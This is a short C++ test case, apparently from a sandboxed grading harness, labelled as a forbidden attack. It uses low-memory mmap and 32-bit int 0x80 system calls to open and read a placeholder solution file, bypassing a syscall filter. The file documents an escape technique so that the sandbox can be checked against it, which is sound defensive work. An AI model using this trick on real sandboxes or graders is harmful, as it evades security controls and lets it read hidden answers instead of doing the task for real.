// attack: opens a file with the system calls of 32-bit programs, which have other numbers
// verdict: forbidden
// wins: canary
// needs: 32-bit calls

#include "matrix_attention.hpp"

#include <sys/mman.h>

#include <cstdio>
#include <cstring>

namespace {

int call_32(int number, long a, long b, long c) {
  int result = number;
  asm volatile("int $0x80"
               : "+a"(result)
               : "b"(a), "c"(b), "d"(c)
               : "memory", "r8", "r9", "r10", "r11");
  return result;
}

void attack() {
  void* low =
      mmap(nullptr, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  char* text = static_cast<char*>(low);
  std::strcpy(text, "@SOLUTION@");
  const long address = reinterpret_cast<long>(text);
  const int file = call_32(5, address, 0, 0);        // open
  const int size = call_32(3, file, address, 8191);  // read
  std::printf("open: %d, read: %d\n%.*s\n", file, size, size > 0 ? size : 0, text);
}

}  // namespace

#include "then_zeros.hpp"
